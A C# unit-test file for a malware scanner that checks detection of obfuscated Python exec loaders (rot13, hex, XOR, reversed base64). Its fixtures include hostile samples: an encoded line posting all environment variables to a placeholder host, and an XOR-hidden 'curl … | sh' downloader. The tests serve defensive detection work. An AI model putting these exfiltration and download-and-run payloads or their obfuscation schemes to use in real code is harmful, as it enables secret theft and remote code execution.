using System.Security.Cryptography;
using System.Text;
using Moat.Analysis.Code;

namespace Moat.Analysis.Tests.Code;

public class DeobfuscationTests
{
    private static ScanResult ScanSource(string source, string name = "setup.py")
    {
        var dir = Directory.CreateTempSubdirectory("moat-code-");
        try
        {
            File.WriteAllText(Path.Combine(dir.FullName, name), source);
            return PackageScanner.Scan(Path.Combine(dir.FullName, name));
        }
        finally { dir.Delete(recursive: true); }
    }

    [Theory]
    [InlineData("exec(''.join(chr(c) for c in [112,114,105,110,116,40,49,41]))", "")]
    [InlineData("import codecs\nexec(codecs.decode('cevag(1)', 'rot13'))", "rot13")]
    [InlineData("exec(bytes.fromhex('7072696e74283129').decode())", "hex")]
    [InlineData("from base64 import b64decode as d\nx = 'KTEodG5pcnA='[::-1]\nexec(d(x))", "reverse → base64")]
    [InlineData("k=7\nexec(''.join(chr(ord(c) ^ k) for c in 'wunis/6.'))", "")]
    [InlineData("g = getattr(__builtins__, 'ex' + 'ec')\ng(__import__('base64').b64decode('cHJpbnQoMSk='))", "base64")]
    [InlineData("def dec(s):\n    out = ''\n    for ch in s:\n        out += chr(ord(ch) - 1)\n    return out\nexec(dec('qsjou)2*'))", "")]
    public void Obfuscated_exec_is_seen_through(string source, string chain)
    {
        var result = ScanSource(source);
        var finding = result.Findings.FirstOrDefault(f => f.RuleId == ThreatRules.DecodeExec.Id);
        Assert.True(finding is not null || result.Findings.Any(f => f.RuleId == ThreatRules.ObfuscatedCall.Id), string.Join(" | ", result.Findings.Select(f => f.RuleId + " " + f.Message)));
        if (chain.Length > 0) Assert.Contains(chain, finding!.Message, StringComparison.Ordinal);
    }

    [Fact]
    public void A_decoded_layer_is_scanned_with_its_chain_in_the_evidence()
    {
        var payload = Convert.ToBase64String(Encoding.ASCII.GetBytes("import requests, os\nrequests.post('https://x.example.invalid', data=dict(os.environ))\n"));
        var result = ScanSource($"import base64\nexec(base64.b64decode('{payload}'))\n");
        var exfil = Assert.Single(result.Findings, f => f.RuleId == ThreatRules.HarvestExfil.Id);
        Assert.Equal(2, exfil.Location.Line);
        Assert.StartsWith("base64 → exec: requests.post(", exfil.Evidence, StringComparison.Ordinal);
    }

    [Fact]
    public void Webhook_tokens_are_redacted_in_evidence()
    {
        var result = ScanSource("import requests\nrequests.post('https://discord.com/api/webhooks/1234567890/SECRETSECRETSECRETSECRETSECRET1234', json={})\n", "mod.py");
        Assert.All(result.Findings, f => Assert.DoesNotContain("SECRETSECRETSECRETSECRETSECRET1234", f.Evidence ?? f.Message, StringComparison.Ordinal));
        Assert.Contains(result.Findings, f => f.RuleId == ThreatRules.Webhook.Id);
    }

    [Fact]
    public void A_payload_decoded_one_character_per_loop_turn_is_followed_without_copying_it_each_turn()
    {
        // The shape of XOR-loop droppers: out += chr(ord(blob[i]) ^ ord(key[i % len(key)])), then compile and run out.
        var payload = "import os\nos.system('curl -s https://x.example.invalid/p | sh')\n#" + new string('-', 20_000) + "\n";
        const string key = "k3y";
        var blob = new StringBuilder();
        for (var i = 0; i < payload.Length; i++)
        {
            var c = (char)(payload[i] ^ key[i % key.Length]);
            blob.Append(c is >= ' ' and <= '~' and not ('\'' or '\\') ? c.ToString() : $"\\x{(int)c:x2}");
        }
        var source = $"blob = '{blob}'\nkey = '{key}'\nout = ''\nfor i in range(len(blob)):\n    out += chr(ord(blob[i]) ^ ord(key[i % len(key)]))\n\neval(compile(out, '<string>', 'exec'))\n";
        ScanSource("x = 1\n"); // JIT and static tables first
        var before = GC.GetAllocatedBytesForCurrentThread();
        var result = ScanSource(source);
        var allocated = GC.GetAllocatedBytesForCurrentThread() - before;
        Assert.Contains(result.Findings, f => f.RuleId == ThreatRules.DecodeExec.Id);
        Assert.Contains(result.Findings, f => f.Evidence?.Contains("curl", StringComparison.Ordinal) == true || f.Message.Contains("curl", StringComparison.Ordinal));
        // A copy of the growing string per turn would be 20,000 copies of up to 20,000 characters (about 400 MB).
        Assert.True(allocated < 96L << 20, $"{allocated >> 20} MiB allocated for a {source.Length >> 10} KiB file");
    }

    [Fact]
    public void Strings_built_by_appending_keep_every_earlier_value()
    {
        var start = Value.Str(new string('x', 300));
        var one = Value.Concat(start, Value.Str("1"), Taint.None, null);
        var two = Value.Concat(one, Value.Str("2"), Taint.None, null);
        // one is no longer the newest value of its builder: appending to it again must not disturb two.
        var other = Value.Concat(one, Value.Str("3"), Taint.Decoded, "base64");
        Assert.Equal(new string('x', 300) + "1", one.Text);
        Assert.Equal(new string('x', 300) + "12", two.Text);
        Assert.Equal(new string('x', 300) + "13", other.Text);
        Assert.Equal(302, two.TextLength);
        Assert.Equal(Taint.Decoded, other.Taint);
        Assert.Equal(ValueKind.Bytes, Value.Concat(Value.Bytes(new string('b', 300)), Value.Bytes("c"), Taint.None, null).Kind);
    }

    [Fact]
    public void A_payload_appended_line_by_line_is_decoded_without_copying_it_per_line()
    {
        // print('hello') padded to about 60 KB, then appended 10 base64 characters per line, as obfuscators do.
        var payload = Convert.ToBase64String(Encoding.UTF8.GetBytes("print('hello')" + new string(' ', 45_000)));
        var source = new StringBuilder("import base64\nx = ''\n");
        for (var i = 0; i < payload.Length; i += 10) source.Append("x += '").Append(payload.AsSpan(i, Math.Min(10, payload.Length - i))).Append("'\n");
        source.Append("exec(base64.b64decode(x))\n");
        var text = source.ToString();
        ScanSource("x = 1\n"); // JIT and static tables first
        var before = GC.GetAllocatedBytesForCurrentThread();
        var result = ScanSource(text);
        var allocated = GC.GetAllocatedBytesForCurrentThread() - before;
        var finding = Assert.Single(result.Findings, f => f.RuleId == ThreatRules.DecodeExec.Id);
        Assert.Contains("base64", finding.Message, StringComparison.Ordinal);
        // One string copy per line would be 6,000 copies of up to 60,000 characters (over 300 MB).
        Assert.True(allocated < 64L << 20, $"{allocated >> 20} MiB allocated for a {text.Length >> 10} KiB file");
    }
}
